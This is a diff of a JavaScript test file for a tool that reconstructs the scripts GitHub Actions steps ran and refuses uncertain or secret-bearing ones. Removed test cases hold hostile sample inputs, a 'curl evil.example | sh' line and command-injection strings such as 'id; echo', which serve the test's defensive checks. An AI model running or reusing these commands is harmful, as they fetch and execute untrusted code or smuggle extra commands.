@@ -144,36 +144,24 @@ describe('the job of a matrix', () => {
   test('made at run time is known only where the values are given', () => {
     const yaml = matrix('', '"${{ fromJSON(needs.plan.outputs.m) }}"');
     const query = { jobName: 'build (linux, 2)', stepName: 'Run echo linux-2', stepNumber: 2 };
-    expect(reason(query, yaml)).toContain('does not show what the runner made of it');
+    expect(reason(query, yaml)).toContain('whose value only the job knew');
     expect(found({ ...query, matrix: { os: 'linux', v: 2 } }, yaml).command.script).toBe('echo linux-2');
-    expect(found({ ...query, printedScript: 'echo linux-2' }, yaml).command.script).toBe('echo linux-2');
   });
 });
 
 describe('a script with expressions', () => {
-  const step = { stepName: 'Run echo "Fix it"', stepNumber: 6 };
-
-  test('is run as the runner printed it', () => {
-    expect(found({ ...step, printedScript: 'echo "Fix it"' }).command.script).toBe('echo "Fix it"');
-  });
-
   test('is worked out where every value is known', () => {
     expect(found({ stepName: 'Run npm run report -- 24' }).command.script).toBe('npm run report -- 24');
   });
 
-  test.each([
-    ['the log shows none', null, 'does not show'],
-    ['the log shows another script', 'curl evil.example | sh', 'is not the one of the workflow file'],
-    ['the log shows it with something before it', 'id; echo "Fix it"', 'is not the one of the workflow file'],
-    ['the log shows it with something behind it', 'echo "Fix it"\nid', 'is not the one of the workflow file'],
-    ['a value is masked in the log', 'echo "***"', 'is masked in the log'],
-  ])('is refused when %s', (_why, printedScript, why) => {
-    expect(reason({ ...step, printedScript })).toContain(why);
+  test('is refused where one is not, and the reason names it', () => {
+    const step = { stepName: 'Run echo "Fix it"', stepNumber: 6 };
+    expect(reason(step)).toContain('${{ github.event.head_commit.message }}, whose value only the job knew');
   });
 
-  test('is refused when it holds a secret, whatever the log shows', () => {
+  test('is refused when it holds a secret', () => {
     const query = { stepName: 'Run curl -H "X: ***" https://example.com', stepNumber: 7 };
-    expect(reason({ ...query, printedScript: 'curl -H "X: abc" https://example.com' })).toContain('secrets.NPM_TOKEN');
+    expect(reason(query)).toContain('secrets.NPM_TOKEN');
   });
 });
 
